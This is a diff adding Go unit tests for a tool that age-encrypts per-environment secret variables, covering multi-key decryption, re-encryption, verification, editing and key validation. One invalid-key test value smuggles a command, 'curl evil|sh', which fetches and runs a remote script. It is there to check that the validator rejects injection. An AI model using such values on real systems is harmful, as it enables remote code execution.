@@ -122,6 +122,37 @@ func TestEncryptDecryptValue(t *testing.T) {
 		}
 	})
 
+	t.Run("decrypts with any recipient's identity", func(t *testing.T) {
+		other := generateTestIdentity(t)
+
+		encrypted, err := EncryptValue("team secret", recipient, other.Recipient())
+		if err != nil {
+			t.Fatalf("EncryptValue() error = %v", err)
+		}
+
+		for _, id := range []*age.X25519Identity{identity, other} {
+			decrypted, err := DecryptValue(encrypted, id)
+			if err != nil {
+				t.Fatalf("DecryptValue() error = %v", err)
+			}
+			if decrypted != "team secret" {
+				t.Errorf("decrypted = %q, want 'team secret'", decrypted)
+			}
+		}
+	})
+
+	t.Run("decrypts with any of several identities", func(t *testing.T) {
+		encrypted, _ := EncryptValue("rotated", recipient)
+
+		decrypted, err := DecryptValue(encrypted, generateTestIdentity(t), identity)
+		if err != nil {
+			t.Fatalf("DecryptValue() error = %v", err)
+		}
+		if decrypted != "rotated" {
+			t.Errorf("decrypted = %q, want 'rotated'", decrypted)
+		}
+	})
+
 	t.Run("fails with wrong identity", func(t *testing.T) {
 		encrypted, _ := EncryptValue("secret", recipient)
 
@@ -207,6 +238,149 @@ func TestEncryptDecryptEnvironment(t *testing.T) {
 	})
 }
 
+func TestDecryptAll(t *testing.T) {
+	identity := generateTestIdentity(t)
+	other := generateTestIdentity(t)
+
+	devValue, _ := EncryptValue("dev", identity.Recipient())
+	prodValue, _ := EncryptValue("prod", other.Recipient())
+
+	f := &File{
+		Environments: map[string]map[string]string{
+			"development": {"KEY": devValue},
+			"production":  {"KEY": prodValue},
+		},
+	}
+
+	t.Run("skips environments the identity cannot decrypt", func(t *testing.T) {
+		decrypted, skipped, err := f.DecryptAll(identity)
+		if err != nil {
+			t.Fatalf("DecryptAll() error = %v", err)
+		}
+		if decrypted["development"]["KEY"] != "dev" {
+			t.Errorf("development.KEY = %q, want 'dev'", decrypted["development"]["KEY"])
+		}
+		if _, ok := decrypted["production"]; ok {
+			t.Error("production should not be decrypted")
+		}
+		if len(skipped) != 1 || skipped[0] != "production" {
+			t.Errorf("skipped = %v, want [production]", skipped)
+		}
+	})
+
+	t.Run("fails on other errors", func(t *testing.T) {
+		broken := &File{
+			Environments: map[string]map[string]string{
+				"development": {"KEY": "ENC[!!!invalid-base64!!!]"},
+			},
+		}
+		if _, _, err := broken.DecryptAll(identity); err == nil {
+			t.Error("DecryptAll() should have failed for invalid value")
+		}
+	})
+}
+
+func TestReencryptEnvironment(t *testing.T) {
+	identity := generateTestIdentity(t)
+	recipient := identity.Recipient()
+
+	original := map[string]string{
+		"UNCHANGED": "same",
+		"CHANGED":   "before",
+		"REMOVED":   "gone",
+	}
+	encrypted, err := EncryptEnvironment(original, recipient)
+	if err != nil {
+		t.Fatalf("EncryptEnvironment() error = %v", err)
+	}
+
+	edited := map[string]string{
+		"UNCHANGED": "same",
+		"CHANGED":   "after",
+		"ADDED":     "new",
+	}
+
+	result, err := ReencryptEnvironment(edited, original, encrypted, recipient)
+	if err != nil {
+		t.Fatalf("ReencryptEnvironment() error = %v", err)
+	}
+
+	t.Run("reuses ciphertext of unchanged values", func(t *testing.T) {
+		if result["UNCHANGED"] != encrypted["UNCHANGED"] {
+			t.Error("unchanged value should keep its original ciphertext")
+		}
+	})
+
+	t.Run("re-encrypts changed values", func(t *testing.T) {
+		if result["CHANGED"] == encrypted["CHANGED"] {
+			t.Error("changed value should have a new ciphertext")
+		}
+		decrypted, err := DecryptValue(result["CHANGED"], identity)
+		if err != nil {
+			t.Fatalf("DecryptValue() error = %v", err)
+		}
+		if decrypted != "after" {
+			t.Errorf("CHANGED = %q, want 'after'", decrypted)
+		}
+	})
+
+	t.Run("encrypts added values and drops removed ones", func(t *testing.T) {
+		if !IsEncrypted(result["ADDED"]) {
+			t.Error("added value should be encrypted")
+		}
+		if _, ok := result["REMOVED"]; ok {
+			t.Error("removed key should not be present")
+		}
+	})
+
+	t.Run("encrypts previously plaintext values", func(t *testing.T) {
+		plain := map[string]string{"KEY": "value"}
+		result, err := ReencryptEnvironment(plain, plain, plain, recipient)
+		if err != nil {
+			t.Fatalf("ReencryptEnvironment() error = %v", err)
+		}
+		if !IsEncrypted(result["KEY"]) {
+			t.Error("plaintext value should be encrypted")
+		}
+	})
+}
+
+func TestVerifyEnvironment(t *testing.T) {
+	identity := generateTestIdentity(t)
+	expected := map[string]string{"KEY1": "value1", "KEY2": "value2"}
+
+	encrypted, err := EncryptEnvironment(expected, identity.Recipient())
+	if err != nil {
+		t.Fatalf("EncryptEnvironment() error = %v", err)
+	}
+
+	t.Run("succeeds for matching values", func(t *testing.T) {
+		if err := VerifyEnvironment(encrypted, expected, identity); err != nil {
+			t.Errorf("VerifyEnvironment() error = %v", err)
+		}
+	})
+
+	t.Run("fails for mismatched value", func(t *testing.T) {
+		other := map[string]string{"KEY1": "value1", "KEY2": "different"}
+		if err := VerifyEnvironment(encrypted, other, identity); err == nil {
+			t.Error("VerifyEnvironment() should have failed for mismatched value")
+		}
+	})
+
+	t.Run("fails for missing key", func(t *testing.T) {
+		other := map[string]string{"KEY1": "value1", "KEY3": "value3"}
+		if err := VerifyEnvironment(encrypted, other, identity); err == nil {
+			t.Error("VerifyEnvironment() should have failed for missing key")
+		}
+	})
+
+	t.Run("fails with wrong identity", func(t *testing.T) {
+		if err := VerifyEnvironment(encrypted, expected, generateTestIdentity(t)); err == nil {
+			t.Error("VerifyEnvironment() should have failed with wrong identity")
+		}
+	})
+}
+
 func TestLoadAndSave(t *testing.T) {
 	dir := t.TempDir()
 
@@ -287,6 +461,63 @@ func TestGetEnvironment(t *testing.T) {
 	})
 }
 
+func TestSetAndUnset(t *testing.T) {
+	t.Run("creates environment on demand", func(t *testing.T) {
+		f := &File{}
+		f.Set("staging", "KEY", "value")
+
+		if f.Environments["staging"]["KEY"] != "value" {
+			t.Errorf("staging.KEY = %q, want 'value'", f.Environments["staging"]["KEY"])
+		}
+	})
+
+	t.Run("overwrites existing key", func(t *testing.T) {
+		f := &File{
+			Environments: map[string]map[string]string{
+				"development": {"KEY": "old", "OTHER": "untouched"},
+			},
+		}
+		f.Set("development", "KEY", "new")
+
+		if f.Environments["development"]["KEY"] != "new" {
+			t.Errorf("KEY = %q, want 'new'", f.Environments["development"]["KEY"])
+		}
+		if f.Environments["development"]["OTHER"] != "untouched" {
+			t.Error("OTHER should not be modified")
+		}
+	})
+
+	t.Run("unsets existing key", func(t *testing.T) {
+		f := &File{
+			Environments: map[string]map[string]string{
+				"development": {"KEY": "value"},
+			},
+		}
+
+		if !f.Unset("development", "KEY") {
+			t.Error("Unset() = false, want true")
+		}
+		if _, ok := f.Environments["development"]["KEY"]; ok {
+			t.Error("KEY should have been removed")
+		}
+	})
+
+	t.Run("unset reports missing key or environment", func(t *testing.T) {
+		f := &File{
+			Environments: map[string]map[string]string{
+				"development": {},
+			},
+		}
+
+		if f.Unset("development", "MISSING") {
+			t.Error("Unset() of missing key = true, want false")
+		}
+		if f.Unset("staging", "KEY") {
+			t.Error("Unset() in missing environment = true, want false")
+		}
+	})
+}
+
 func TestToEnvList(t *testing.T) {
 	env := map[string]string{
 		"KEY1": "value1",
@@ -332,3 +563,35 @@ func TestCreateDefault(t *testing.T) {
 		t.Error("missing production environment")
 	}
 }
+
+func TestLocalPathFor(t *testing.T) {
+	tests := map[string]string{
+		"env.toml":                "env.local.toml",
+		"config/secrets.toml":     "config/secrets.local.toml",
+		filepath.Join("a", "env"): filepath.Join("a", "env.local"),
+	}
+	for path, want := range tests {
+		if got := LocalPathFor(path); got != want {
+			t.Errorf("LocalPathFor(%q) = %q, want %q", path, got, want)
+		}
+	}
+}
+
+func TestValidKey(t *testing.T) {
+	valid := []string{"A", "_", "API_KEY", "key2", "_PRIVATE"}
+	for _, key := range valid {
+		if !ValidKey(key) {
+			t.Errorf("ValidKey(%q) = false, want true", key)
+		}
+	}
+
+	invalid := []string{"", "2FA", "FOO-BAR", "a.b", "FOO=1;curl evil|sh;X", "SPACE KEY", "ÜBER"}
+	for _, key := range invalid {
+		if ValidKey(key) {
+			t.Errorf("ValidKey(%q) = true, want false", key)
+		}
+		if err := ValidateKey(key); err == nil {
+			t.Errorf("ValidateKey(%q) should have failed", key)
+		}
+	}
+}